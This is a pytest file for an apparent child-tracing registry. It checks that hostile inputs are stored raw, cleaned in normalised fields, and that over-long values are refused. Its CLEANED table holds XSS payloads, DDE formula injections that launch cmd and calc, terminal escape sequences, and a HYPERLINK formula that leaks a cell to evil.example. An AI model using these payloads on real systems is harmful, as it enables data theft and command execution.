"""Hostile values are kept exactly as received in a record's raw copy, and
cleaned in its normalised fields, on SQLite and on PostgreSQL.

What cleaning (``clean_text``) does, value by value, is pinned in
:data:`CLEANED`: markup and formula characters are kept (they are text, and
every output makes them harmless where it writes them); format characters
(the right-to-left override, zero-width space, byte-order mark) are dropped;
other control characters (NUL, bell, escape, tab, carriage return) become a
space; runs of spaces become one and the ends are trimmed.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import select

from homeward.domain.model import Category, Relationship
from homeward.domain.roles import Actor, Role
from homeward.errors import Invalid
from homeward.services import cases, imports, intake, lists
from homeward.services.records import clean_text
from homeward.services.registry_app import Registry
from homeward.storage.tables import QuarantineRow, RecordRow
from tests.hostile.values import HOSTILE, LONG, PARAMS, fits_a_name, record_fields, shown

WORKER = Actor(username="olena", role=Role.CASE_WORKER, user_id=1)

CLEANED: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single_quote": "'><svg/onload=alert(1)>",
    "javascript_url": "javascript:alert(document.domain)",
    "hyperlink": '=HYPERLINK("https://evil.example/?leak="&A1,"Коваленко")',
    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab_formula": "=1+2",
    "cr_formula": "=1+2",
    "rtl_override": "Коваленкоокнелавок",
    "zero_width": "Коваленко",
    "long": LONG,
    "nul": "Кова ленко",
    "bell": "Кова ленко",
    "escape": "[2J ]0;pwned Коваленко [31m",
    "lone_cr": "Коваленко Петренко",
    "rich_markup": "[bold red]x[/]",
}
"""What each hostile value becomes in a record's normalised fields."""


def test_every_hostile_value_has_its_cleaned_form_written_down() -> None:
    assert set(CLEANED) == set(HOSTILE)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_cleaning_keeps_markup_and_formulas_and_drops_what_cannot_be_seen(name: str) -> None:
    assert clean_text(HOSTILE[name]) == CLEANED[name]


def _raw_and_fields(registry: Registry, record_id: int) -> tuple[dict[str, object], RecordRow]:
    """The raw copy as the database returns it (a new connection, no session
    cache), and the record as a new unit of work reads it."""
    with registry.engine.connect() as conn:
        raw = conn.execute(
            select(RecordRow.__table__.c.raw).where(RecordRow.__table__.c.id == record_id)
        ).scalar_one()
    with registry.uow(write=False) as uow:
        record = uow.session.get_one(RecordRow, record_id)
        uow.session.expunge(record)
    return raw, record


@pytest.mark.parametrize("value", PARAMS)
def test_a_report_keeps_the_value_exactly_in_its_raw_copy(registry: Registry, value: str) -> None:
    fields = record_fields(value)
    with registry.uow(WORKER) as uow:
        taken = intake.take_report(uow, fields, title="Phone call")
        uow.commit()
    raw, record = _raw_and_fields(registry, taken.record.id)
    assert raw == fields
    for name, sent in fields.items():
        assert str(raw[name]).encode("utf-8") == str(sent).encode("utf-8"), name
    assert record.notes == shown(value) and record.removal_circumstances == shown(value)
    if fits_a_name(value):
        assert record.family_name == shown(value) and record.mother_name == shown(value)
        assert record.last_known_location == shown(value)


def test_a_name_longer_than_its_column_is_refused_naming_the_field(registry: Registry) -> None:
    """Not stored on SQLite and refused by PostgreSQL: refused alike on both,
    before anything is written, saying which field and how long it may be."""
    refusal = r"^family_name is 10,000 characters long \(at most 200\)"
    with registry.uow(WORKER) as uow, pytest.raises(Invalid, match=refusal):
        intake.take_report(uow, {"family_name": LONG, "given_name": "Олександр"})
    with registry.uow(write=False) as uow:
        assert uow.session.scalar(select(RecordRow.id)) is None


HEADER = ["Прізвище", "Ім'я", "Дата народження", "Місце народження", "Примітки"]


def _csv_file(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([HEADER, *rows])
    return path


@pytest.mark.parametrize("value", [p for p in PARAMS if "\x00" not in p.values[0]])
def test_an_imported_row_keeps_the_value_exactly_or_waits_in_quarantine(
    registry: Registry, tmp_path: Path, value: str
) -> None:
    """Rows are written in bulk (COPY on PostgreSQL): the raw copy is still the
    cell exactly.  A row that cannot be a record (a date that does not exist,
    a name too long) waits in the quarantine with its raw copy exact too."""
    path = _csv_file(tmp_path / "hostile.csv", [
        [value, "Олександр", "04.03.2012", value, value],
        [value, "Дмитро", "31.02.2012", value, value],
    ])  # fmt: skip
    result = imports.import_file(registry, WORKER, path, match=False)
    with registry.uow(write=False) as uow:
        records = list(uow.session.scalars(select(RecordRow).order_by(RecordRow.source_row)))
        held = list(uow.session.scalars(select(QuarantineRow).order_by(QuarantineRow.source_row)))
    cells = dict(zip(HEADER, [value, "Олександр", "04.03.2012", value, value], strict=True))
    if fits_a_name(value):
        assert (result.imported, result.quarantined) == (1, 1)
        [record] = records
        assert record.raw == cells
        assert record.family_name == shown(value) and record.notes == shown(value)
        [bad] = held
    else:
        assert (result.imported, result.quarantined) == (0, 2)
        first, bad = held
        assert first.raw == cells
        assert "family_name is 10,000 characters long (at most 200)" in first.errors
    assert bad.raw == {**cells, "Ім'я": "Дмитро", "Дата народження": "31.02.2012"}


def test_a_csv_file_with_a_nul_is_refused_whole_with_the_reason(
    registry: Registry, tmp_path: Path
) -> None:
    path = _csv_file(tmp_path / "nul.csv", [[HOSTILE["nul"], "Олександр", "04.03.2012", "", ""]])
    with pytest.raises(Invalid, match="binary file"):
        imports.import_file(registry, WORKER, path, match=False)


VERIFIER = Actor(username="taras", role=Role.VERIFIER, user_id=2)


def test_a_relative_or_a_list_title_too_long_is_refused_naming_the_field(
    registry: Registry,
) -> None:
    """Before, SQLite kept them and PostgreSQL failed the transaction with an
    error about a column: now both refuse them as a form would."""
    with registry.uow(WORKER) as uow:
        child = cases.open_case(uow, category=Category.DEPORTED)
        with pytest.raises(Invalid, match=r"^full_name is 10,000 characters long \(at most 300\)"):
            cases.add_relative(uow, child.id, full_name=LONG, relationship=Relationship.MOTHER)
        uow.commit()
    with registry.uow(VERIFIER) as uow:
        with pytest.raises(Invalid, match=r"^title is 10,000 characters long \(at most 300\)"):
            lists.create_list(uow, title=LONG, purpose=LONG, channel="ICRC", recipient="ICRC")
        with pytest.raises(Invalid, match=r"^channel is 10,000 characters long \(at most 200\)"):
            lists.create_list(uow, title="Round 3", purpose=LONG, channel=LONG, recipient="ICRC")
        kept = lists.create_list(uow, title="Round 3", purpose=LONG, channel="ICRC", recipient="x")
        uow.commit()
    with registry.uow(VERIFIER, write=False) as uow:
        assert lists.get_list(uow, kept.id).purpose == LONG  # a purpose may be any length
        assert list(uow.repos.relatives.of_child(child.id)) == []
